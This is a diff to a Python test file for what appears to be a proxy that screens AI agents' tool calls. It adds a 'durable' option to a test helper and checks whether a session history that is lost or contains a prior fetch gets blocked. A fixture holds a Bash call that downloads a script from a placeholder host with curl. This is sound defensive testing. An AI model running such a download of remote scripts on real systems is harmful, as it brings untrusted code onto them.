@@ -38,7 +38,13 @@ RULES = {
 FETCHED = pack_calls([("c1", "Bash", '{"command": "curl -o i.sh https://up.example.net/i.sh"}')])
 
 
-def make(session: str = "s", step: Any = RULES, facts: dict[str, bytes] | None = None) -> OwnedCall:
+def make(
+    session: str = "s",
+    step: Any = RULES,
+    facts: dict[str, bytes] | None = None,
+    *,
+    durable: bool = False,
+) -> OwnedCall:
     config = Config.model_validate(
         {
             "upstreams": {
@@ -53,7 +59,7 @@ def make(session: str = "s", step: Any = RULES, facts: dict[str, bytes] | None =
         "openai",
         endpoint="chat",
         session=session,
-        durable=False,
+        durable=durable,
         max_arguments_bytes=1000,
     )
     call = owned(START, Session(info, policies, config))
@@ -101,20 +107,23 @@ def test_only_calls_that_need_it_look_the_session_up() -> None:
 
 
 @pytest.mark.parametrize(
-    ("fact", "outcome"),
+    ("fact", "durable", "outcome"),
     [
-        (b"[]", ("allow", "")),
-        (FETCHED, ("block", "foreign")),
-        (LOST, ("block", "history_unavailable")),
-        (b"{", ("block", "history_unavailable")),
+        (b"[]", True, ("allow", "")),
+        (FETCHED, True, ("block", "foreign")),
+        (LOST, True, ("block", "history_unavailable")),
+        (b"{", True, ("block", "history_unavailable")),
+        # where calls go on without the record, they do by what the client sent
+        (LOST, False, ("allow", "")),
     ],
 )
 def test_whoever_takes_the_call_over_decides_by_the_same(
-    fact: bytes, outcome: tuple[str, str]
+    fact: bytes, durable: bool, outcome: tuple[str, str]
 ) -> None:
-    first = make()
+    first = make(durable=durable)
     first.feed_fact(layout.CALLS_FIELD, fact, 2)
-    assert decided(first) == decided(make(facts={layout.CALLS_FIELD: fact})) == outcome
+    second = make(facts={layout.CALLS_FIELD: fact}, durable=durable)
+    assert decided(first) == decided(second) == outcome
 
 
 def test_ids_of_a_hostile_request_are_bounded() -> None:
